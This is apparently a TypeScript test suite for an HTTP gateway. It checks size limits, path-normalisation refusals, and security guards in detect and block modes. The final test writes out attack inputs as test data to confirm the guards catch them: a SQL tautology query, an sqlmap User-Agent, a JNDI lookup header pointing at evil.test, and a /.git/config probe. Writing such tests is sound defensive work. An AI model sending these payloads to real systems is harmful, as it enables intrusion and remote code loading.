import { expect } from 'vitest';
import { forwardTo } from '../kit/config.ts';
import { matrix } from '../kit/matrix.ts';

matrix('heads and targets that are larger than a route wants them are refused, others are served', async (stage) => {
  const limits = { headerBytes: 600, headerCount: 12, targetBytes: 40 };
  const shop = await stage.origin();
  const front = await stage.gateway(
    forwardTo(shop, { rest: { policies: { small: { limits } } }, route: { use: 'small' } }),
  );
  const many = Array.from({ length: 13 }, (_, i) => [`X-${i}`, 'a']).flat();
  const asked = [
    { path: `/${'a'.repeat(39)}` },
    { path: `/${'a'.repeat(40)}` },
    { path: `/?${'%41'.repeat(13)}` },
    { headers: ['X-Large', 'a'.repeat(400)] },
    { headers: ['X-Large', 'a'.repeat(600)] },
    { headers: many },
  ];
  const statuses: number[] = [];
  for (const request of asked) statuses.push((await front.send(request)).status);
  expect(statuses).toEqual([200, 414, 414, 200, 431, 431]);
  expect(shop.requests).toBe(2);
});

matrix('a body limit of a group counts while the body streams, and the route’s own goes before it', async (stage) => {
  const shop = await stage.origin();
  const config = forwardTo(shop, { rest: { policies: { small: { limits: { body: 10 } } } } });
  const front = await stage.gateway({
    ...config,
    routes: [
      { name: 'large', match: { path: '/large' }, pool: 'shop', use: 'small', limits: { body: 100 } },
      { name: 'none', match: { path: '/none' }, pool: 'shop', use: 'small', limits: false },
      { name: 'small', pool: 'shop', use: 'small' },
    ],
  });
  const statuses: number[] = [];
  for (const path of ['/large', '/none', '/small']) {
    for (const chunked of [false, true]) {
      statuses.push((await front.send({ method: 'POST', path, body: 'a'.repeat(50), chunked })).status);
    }
  }
  expect(statuses).toEqual([200, 200, 200, 200, 413, 413]);
});

matrix(
  'paths that a route refuses are judged as they were sent, whatever the listener makes of them',
  async ({ gateway, origin }) => {
    const paths = {
      dotSegments: 'refuse',
      duplicateSlashes: 'refuse',
      encodedSlash: 'refuse',
      nonUtf8: 'refuse',
    } as const;
    const shop = await origin();
    const front = await gateway({
      ...forwardTo(shop, { listener: { path: { encodedSlash: 'keep' } } }),
      routes: [
        { name: 'lax', match: { path: '/lax/**' }, pool: 'shop' },
        { name: 'strict', match: { path: '/**' }, pool: 'shop', paths },
      ],
    });
    const asked = ['/a/b', '/a/../b', '/a/%2e%2E/b', '/a//b', '/a%2Fb', '/%C0%AF', '/lax//a/../%2F%FF', '/%00'];
    const statuses: number[] = [];
    for (const path of asked) statuses.push((await front.send({ path })).status);
    expect(statuses).toEqual([200, 400, 400, 400, 400, 400, 200, 400]);
    expect(shop.received.map(({ target }) => target)).toEqual(['/a/b', '/lax/%2F%FF']);
    const reasons = [];
    for (const _ of asked) reasons.push((await front.gateway.nextRecord()).end.reason);
    expect(reasons).toEqual([
      ...['complete', 'path-dot-segment', 'path-dot-segment', 'path-duplicate-slash', 'path-encoded-slash'],
      ...['path-non-utf8', 'complete', 'encoded-control'],
    ]);
  },
);

matrix('guards that detect let everything through and tell of it; those that block do not', async (stage) => {
  const shop = await stage.origin();
  const front = await stage.gateway({
    ...forwardTo(shop),
    routes: [
      { name: 'block', match: { path: '/block/**' }, pool: 'shop', guards: { mode: 'block', exclude: ['scanner'] } },
      { name: 'detect', pool: 'shop', guards: {} },
    ],
  });
  const attack = '?q=%27%2520OR%2520%271%27%3D%271';
  const scanner = ['User-Agent', 'sqlmap/1.7'];
  const jndi = ['X-Api-Version', '${jndi:ldap://evil.test/a}'];
  const asked = [
    { path: `/a${attack}`, headers: scanner },
    { path: `/block/a${attack}` },
    { path: '/block/a', headers: scanner },
    { path: '/block/a', headers: jndi },
    { path: '/block/a?name=O%27Brien&note=select+a+seat' },
    { path: '/block/.git/config' },
  ];
  const statuses: number[] = [];
  for (const request of asked) statuses.push((await front.send(request)).status);
  expect(statuses).toEqual([200, 403, 200, 403, 200, 403]);
  const notes = [];
  for (const _ of asked) notes.push((await front.gateway.nextRecord()).notes);
  expect(notes).toEqual([
    ['guard:sql-tautology', 'guard:scanner'],
    ['guard:sql-tautology'],
    [],
    ['guard:jndi'],
    [],
    ['guard:sensitive-file'],
  ]);
  const metrics = await (await fetch(`${front.gateway.gateway.adminUrl}/metrics`)).text();
  expect(metrics).toContain(
    'headgate_http_policy_notes_total{listener="web",route="block",note="guard:sql-tautology"} 1',
  );
});
